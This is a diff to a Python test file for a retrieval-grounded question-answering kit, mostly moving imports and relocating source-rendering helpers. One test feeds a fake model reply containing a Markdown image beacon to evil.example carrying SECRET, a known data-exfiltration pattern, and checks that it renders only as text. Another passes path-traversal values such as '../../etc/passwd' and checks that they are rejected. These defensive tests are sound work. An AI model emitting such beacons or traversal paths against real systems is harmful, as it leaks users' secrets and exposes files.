@@ -9,7 +9,7 @@ import pytest
 from fakes import FakeBackend
 from test_library import docs, home  # noqa: F401 - the fixture
 
-from research.engine.engine import Engine, conversation
+from research.engine import Engine, conversation
 from research.engine.prompts import STOPS, ChatFormat
 from research.errors import KitError
 from research.library import build as library_build
@@ -17,6 +17,7 @@ from research.library import evaluate as library_eval
 from research.library import grounded
 from research.library import store as library
 from research.library.grounded import Grounding
+from research.page import sources as page_sources
 from research.page import text as page_text
 
 
@@ -75,7 +76,7 @@ def test_the_best_passage_comes_last_next_to_the_question():
 
 
 def test_passages_fit_the_context_with_room_for_the_reply(lib):
-    from research.engine.engine import Sampling
+    from research.engine import Sampling
 
     question = "Marigold Dawn ferry Linnet Bridge warbler eggs apple variety"
     sampling = Sampling(max_tokens=64)
@@ -164,7 +165,7 @@ def test_never_does_not_search_and_unsure_only_when_unsure(lib, monkeypatch):
 
 
 def test_unsure_reads_research_confidence_calibrated_probability_where_there_is_one(lib, monkeypatch):
-    from research.confidence import methods as confidence
+    from research import confidence
 
     e = engine(lambda p: "I don't know")  # the text alone says unsure: confidence 0
     assert grounded.ground(e, lib, "Newest ferry?", "unsure").looked_up  # no calibration here
@@ -209,7 +210,7 @@ def test_sources_markdown_shows_hostile_names_as_text_only(home, tmp_path):  # n
     library_build.add("h", [folder], progress=False)
     e = engine(lambda p: "Sure: ![beacon](http://evil.example/?q=SECRET) the Gannet [1]")
     out = grounded.answer(e, "h", "Which ferry?")
-    md = grounded.sources_markdown("h", out["grounded"].sources, out["cited"])
+    md = page_sources.sources_markdown("h", out["grounded"].sources, out["cited"])
     from test_page_text import ALLOWED_TAGS, rendered_tags
 
     tags = rendered_tags(md)  # two Markdown parsers that are not the kit's
@@ -223,14 +224,14 @@ def test_sources_markdown_shows_hostile_names_as_text_only(home, tmp_path):  # n
 
 def test_passage_text_for_the_route(lib):
     hit = library.open_library(lib).search("Linnet Bridge", 1)[0]
-    text = grounded.passage_text(lib, hit.id)
+    text = page_sources.passage_text(lib, hit.id)
     assert text.startswith("Council notes › Bridge\n") and "Linnet Bridge" in text
-    assert grounded.passage_url(lib, hit.id) == f"/passage/{lib}/{hit.id}"
+    assert page_sources.passage_url(lib, hit.id) == f"/passage/{lib}/{hit.id}"
     for bad in ["../../etc/passwd", "1-99999", "x"]:
         with pytest.raises(KitError):
-            grounded.passage_text(lib, bad)
+            page_sources.passage_text(lib, bad)
     with pytest.raises(KitError):
-        grounded.passage_url("../x", hit.id)
+        page_sources.passage_url("../x", hit.id)
 
 
 # ---- gained and lost ----
@@ -293,7 +294,7 @@ def test_eval_loads_each_set_and_tags_it():
 def test_chat_with_library_on_the_bundled_model(home, capsys):  # noqa: F811
     """`chat --library --json`: the answer and its sources; the library answers what the model
     cannot know, on questions of the kit's own set."""
-    from research.cli.main import main
+    from research.cli.commands import main
 
     library_build.add("kit", [library_eval.paths.kit_data_dir() / "library" / "docs"], progress=False)
     right = 0
@@ -321,7 +322,7 @@ def test_chat_with_library_on_the_bundled_model(home, capsys):  # noqa: F811
 def test_eval_library_compare_closed_book_on_the_bundled_model(home, tmp_path, capsys):  # noqa: F811
     """`eval --library NAME --compare-closed-book`: every mode scored against the closed-book
     answer of the same question; the library set is out of the model's reach closed-book."""
-    from research.cli.main import main
+    from research.cli.commands import main
 
     library_build.add("kit", [library_eval.paths.kit_data_dir() / "library" / "docs"], progress=False)
     qs = library_eval.paths.kit_data_dir() / "library" / "questions.jsonl"
